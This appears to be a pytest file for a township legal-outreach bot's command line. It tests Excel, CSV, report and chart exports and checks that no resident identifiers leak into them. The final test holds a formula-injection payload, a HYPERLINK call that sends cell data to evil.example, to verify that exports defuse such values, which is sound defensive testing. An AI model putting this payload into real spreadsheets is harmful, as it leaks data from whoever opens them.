"""Staff export a period for Excel and write the year's report, from the command line.

Every file is checked the way staff and auditors would: opened with openpyxl or the csv
module, read as text, and searched for every fixture resident's OpenID and pseudonym.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import zipfile
from datetime import datetime

import openpyxl
import pytest

from bot import records
from bot.records import schema
from tests import statsdata
from tests.conftest import ROOT


def run(args, url, **env):
    environ = {**os.environ, "LEGALBOT_DATABASE_URL": url, "LEGALBOT_SECRET_KEY": "cli", **env}
    return subprocess.run(
        ["legalbot", *args], cwd=ROOT, env=environ, capture_output=True, text=True, timeout=120
    )


@pytest.fixture
def db_url(tmp_path):
    """A database holding the hand-counted month (tests/statsdata.py) and three activities."""
    url = f"sqlite:///{tmp_path}/stats.db"
    engine = records.make_engine(url)
    schema.upgrade(engine)
    statsdata.load_month(engine)
    engine.dispose()
    for args in (
        [
            "--date",
            "2025-03-02",
            "--kind",
            "集市宣传",
            "--place",
            "甘河滩村集市",
            "--theme",
            "fraud",
            "--attendance",
            "150",
            "--scene",
            "market-2025-03",
        ],
        [
            "--date",
            "2025-03-20",
            "--kind",
            "lecture",
            "--place",
            "甘河滩镇中学",
            "--attendance",
            "60",
        ],
        ["--date", "2025-06-12", "--kind", "法律明白人培训", "--place", "镇政府会议室"],
    ):
        result = run(["activity", "add", *args], url)
        assert result.returncode == 0, result.stderr
    return url


def secrets_of_the_fixture() -> list[str]:
    return [*statsdata.OPENIDS.values(), *(statsdata.user(w) for w in statsdata.OPENIDS)]


def assert_names_no_resident(text: str) -> None:
    for secret in secrets_of_the_fixture():
        assert secret not in text


def test_the_workbook_has_a_sheet_per_view_real_dates_and_a_trend_chart(db_url, tmp_path):
    out = tmp_path / "2025.xlsx"
    result = run(
        [
            "stats",
            "export",
            "--format",
            "xlsx",
            "--out",
            str(out),
            "--from",
            "2025-03-01",
            "--to",
            "2025-03-31",
        ],
        db_url,
    )
    assert result.returncode == 0, result.stderr
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [
        "概览",
        "每日趋势",
        "每周趋势",
        "每月趋势",
        "按主题",
        "按知识条目",
        "二维码场景",
        "菜单点击",
        "线上推送",
        "线下活动",
        "人民调解",
        "未解答问题",
    ]
    overview = {row[0]: row[1] for row in book["概览"].iter_rows(min_row=2, values_only=True)}
    assert overview["统计起始日期"] == datetime(2025, 3, 1)
    assert overview["收到群众消息（条）"] == 6
    assert overview["咨询群众（人）"] == 4
    assert overview["解答率"] == 0.6
    assert overview["通过线下活动二维码关注（人次）"] == 2
    daily = book["每日趋势"]
    assert [c.value for c in daily[1]][:3] == ["日期", "收到群众消息（条）", "咨询群众（人）"]
    assert daily.max_row == 32  # a header and the 31 days of March
    first = daily["A2"]
    assert first.is_date and first.value == datetime(2025, 3, 1)
    assert first.number_format == "yyyy-mm-dd"
    assert [daily["B2"].value, daily["B3"].value] == [2, 1]
    assert len(daily._charts) == 1
    assert daily._charts[0].tagname == "lineChart"
    themes = list(book["按主题"].iter_rows(values_only=True))
    assert themes[0] == ("主题", "主题代码", "已解答（条）")
    assert themes[1] == ("劳动争议", "labor", 2)
    campaigns = list(book["线上推送"].iter_rows(min_row=2, values_only=True))
    assert [(c[0], c[5], c[9]) for c in campaigns] == [("宪法日群发", 500, 3), ("欠薪提醒", 2, 1)]
    assert campaigns[0][4] == datetime(2025, 3, 2, 9, 0)
    activities = list(book["线下活动"].iter_rows(min_row=2, values_only=True))
    assert activities[0][:3] == (datetime(2025, 3, 2), "集市宣传", "甘河滩村集市")
    assert activities[0][6] == 2
    unanswered = list(book["未解答问题"].iter_rows(min_row=2, values_only=True))
    assert unanswered[0] == ("村里的路灯坏了找谁修", 3)
    with zipfile.ZipFile(out) as archive:
        assert_names_no_resident(" ".join(archive.read(n).decode() for n in archive.namelist()))


def test_the_csv_opens_in_excel_without_garbled_chinese(db_url, tmp_path):
    out = tmp_path / "march.csv"
    result = run(
        [
            "stats",
            "export",
            "--format",
            "csv",
            "--out",
            str(out),
            "--from",
            "2025-03-01",
            "--to",
            "2025-03-31",
        ],
        db_url,
    )
    assert result.returncode == 0, result.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["【概览】"]
    assert rows[1] == ["指标", "数值"]
    assert ["收到群众消息（条）", "6"] in rows
    daily = rows.index(["【每日趋势】"])
    assert rows[daily + 1][0] == "日期"
    assert rows[daily + 2][:2] == ["2025-03-01", "2"]
    assert_names_no_resident(raw.decode("utf-8-sig"))


def test_the_annual_report_speaks_from_the_figures(db_url, tmp_path):
    result = run(["stats", "report", "--year", "2025"], db_url)
    assert result.returncode == 0, result.stderr
    text = result.stdout
    assert text.startswith("## 甘河滩镇2025年度普法宣传统计")
    assert (
        "全年通过公众号开展线上普法推送3次，覆盖602人次，推送后72小时内与公众号互动的群众共6人次；"
        "公众号共收到群众消息7条，来自4名群众，解答群众法律咨询4条，解答率66.7%，"
        "另有2条咨询未能直接解答，已汇总供补充知识库，"
        "群众咨询较多的是劳动争议（2条）、防范电信网络诈骗与养老诈骗（1条）、婚姻家庭（1条）；"
        "新增关注4人次、取消关注1人次，净增3人，其中通过线下活动二维码关注2人次；"
        "开展线下普法宣传2场次，其中法治讲座1场次、集市宣传1场次，法律明白人培训1次，"
        "参与群众210人次（另有1场未登记人数）。"
    ) in text
    assert "| 线上普法推送 | 3次 |" in text
    assert "| 法律明白人及调解员培训 | 1次 |" in text
    assert_names_no_resident(text)


def test_a_year_without_records_is_reported_plainly(tmp_path):
    url = f"sqlite:///{tmp_path}/empty.db"
    assert run(["db", "upgrade"], url).returncode == 0
    text = run(["stats", "report", "--year", "2024"], url).stdout
    assert (
        "全年未通过公众号开展线上普法推送；公众号全年未收到群众消息；"
        "公众号关注人数全年没有变化；线下普法活动未在系统中登记。"
    ) in text


def test_the_report_file_comes_with_its_trend_picture(db_url, tmp_path):
    out = tmp_path / "report-2025.md"
    result = run(["stats", "report", "--year", "2025", "--out", str(out)], db_url)
    assert result.returncode == 0, result.stderr
    picture = tmp_path / "report-2025-trend.svg"
    markdown = out.read_text("utf-8")
    assert "![2025年每月趋势](report-2025-trend.svg)" in markdown
    svg = picture.read_text("utf-8")
    assert svg.startswith("<svg") and "收到群众消息（条）" in svg and "2025-03" in svg
    assert "http://" not in svg.split("-->", 3)[-1]  # loads nothing from outside
    plain = tmp_path / "report-2025.txt"
    assert run(["stats", "report", "--year", "2025", "--out", str(plain)], db_url).returncode == 0
    lines = plain.read_text("utf-8").splitlines()
    assert "项目\t数量" in lines and "线上普法推送\t3次" in lines
    for text in (markdown, svg, plain.read_text("utf-8")):
        assert_names_no_resident(text)


def test_the_trend_chart_command_draws_svg(db_url, tmp_path):
    out = tmp_path / "weeks.svg"
    result = run(
        [
            "stats",
            "chart",
            "--out",
            str(out),
            "--by",
            "week",
            "--from",
            "2025-03-01",
            "--to",
            "2025-03-31",
        ],
        db_url,
    )
    assert result.returncode == 0, result.stderr
    svg = out.read_text("utf-8")
    assert "每周趋势" in svg and "2025-W10" in svg
    assert_names_no_resident(svg)


def test_series_and_summary_as_json(db_url):
    result = run(
        [
            "stats",
            "series",
            "--by",
            "month",
            "--json",
            "--from",
            "2025-03-01",
            "--to",
            "2025-04-30",
        ],
        db_url,
    )
    assert result.returncode == 0, result.stderr
    months = json.loads(result.stdout)
    assert [(m["label"], m["messages_received"]) for m in months] == [
        ("2025-03", 6),
        ("2025-04", 1),
    ]
    summary = json.loads(
        run(
            ["stats", "summary", "--json", "--from", "2025-03-01", "--to", "2025-03-31"], db_url
        ).stdout
    )
    assert summary["campaigns"][0]["name"] == "宪法日群发"
    assert summary["followers_by_scene"] == {"market-2025-03": 2}
    assert_names_no_resident(json.dumps(summary, ensure_ascii=False))


def test_the_export_reads_postgresql_too(pg_url, tmp_path):
    engine = records.make_engine(pg_url)
    schema.upgrade(engine)
    statsdata.load_month(engine)
    engine.dispose()
    out = tmp_path / "pg.xlsx"
    result = run(
        [
            "stats",
            "export",
            "--format",
            "xlsx",
            "--out",
            str(out),
            "--from",
            "2025-01-01",
            "--to",
            "2025-12-31",
        ],
        pg_url,
    )
    assert result.returncode == 0, result.stderr
    overview = {
        row[0]: row[1]
        for row in openpyxl.load_workbook(out)["概览"].iter_rows(min_row=2, values_only=True)
    }
    assert (overview["收到群众消息（条）"], overview["咨询群众（人）"]) == (7, 4)
    assert overview["推送送达（人次）"] == 602


def test_rollup_command_keeps_the_exported_figures(db_url, tmp_path):
    before, after = tmp_path / "before.csv", tmp_path / "after.csv"
    period = ["--from", "2025-01-01", "--to", "2025-12-31"]
    run(["stats", "export", "--format", "csv", "--out", str(before), *period], db_url)
    result = run(["stats", "rollup", "--days", "30", "--json"], db_url)
    assert result.returncode == 0, result.stderr
    done = json.loads(result.stdout)
    assert done["deleted_events"] == len(statsdata.EVENTS) and done["campaigns_frozen"] == 3
    run(["stats", "export", "--format", "csv", "--out", str(after), *period], db_url)
    assert after.read_bytes() == before.read_bytes()


def test_days_follow_legalbot_timezone(db_url):
    first_of_march = ["stats", "summary", "--json", "--from", "2025-03-01", "--to", "2025-03-01"]
    shanghai = json.loads(run(first_of_march, db_url).stdout)
    utc = json.loads(run(first_of_march, db_url, LEGALBOT_TIMEZONE="UTC").stdout)
    assert (shanghai["timezone"], shanghai["messages_received"]) == ("Asia/Shanghai", 2)
    assert (utc["timezone"], utc["messages_received"]) == ("UTC", 3)


def test_each_campaign_object_holds_its_figures(db_url):
    year = json.loads(
        run(
            ["stats", "summary", "--json", "--from", "2025-01-01", "--to", "2025-12-31"], db_url
        ).stdout
    )
    for field in ("from", "to", "messages_received", "unique_users", "answered", "unanswered",
                  "subscribes", "unsubscribes", "menu_clicks", "by_theme", "campaigns"):  # fmt: skip
        assert field in year
    assert [c["name"] for c in year["campaigns"]] == [
        "宪法日群发",
        "欠薪提醒",
        "婚姻法宣传（标签）",
    ]
    for campaign in year["campaigns"]:
        assert {"audience", "sent", "filtered", "errors", "engaged"} <= set(campaign)
    assert "/srv/legalbot" not in json.dumps(year)  # the recipients file's path stays on the server


def test_a_text_that_looks_like_a_formula_stays_text(tmp_path):
    """A place or scene typed as `=HYPERLINK(…)` (or starting +, -, @) must not become a live
    formula in Excel: both formats neutralise it with a leading apostrophe."""
    url = f"sqlite:///{tmp_path}/formula.db"
    engine = records.make_engine(url)
    schema.upgrade(engine)
    engine.dispose()
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    for place, scene in ((evil, "-cmd"), ("-2+3", "market-1")):
        args = ["--date", "2025-03-02", "--kind", "集市宣传", "--place", place, "--scene", scene]
        added = run(["activity", "add", *args], url)
        assert added.returncode == 0, added.stderr
    period = ["--from", "2025-01-01", "--to", "2025-12-31"]
    xlsx, csv_file = tmp_path / "f.xlsx", tmp_path / "f.csv"
    assert (
        run(["stats", "export", "--format", "xlsx", "--out", str(xlsx), *period], url).returncode
        == 0
    )
    assert (
        run(["stats", "export", "--format", "csv", "--out", str(csv_file), *period], url).returncode
        == 0
    )
    book = openpyxl.load_workbook(xlsx)
    texts = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "cmd" in cell.value)
    ]
    assert texts and all(cell.data_type == "s" for cell in texts)
    assert {cell.value for cell in texts} >= {"'" + evil, "'-cmd"}
    rows = list(csv.reader(io.StringIO(csv_file.read_text("utf-8-sig"))))
    values = {value for row in rows for value in row}
    assert "'" + evil in values and "'-2+3" in values and "'-cmd" in values
    assert evil not in values
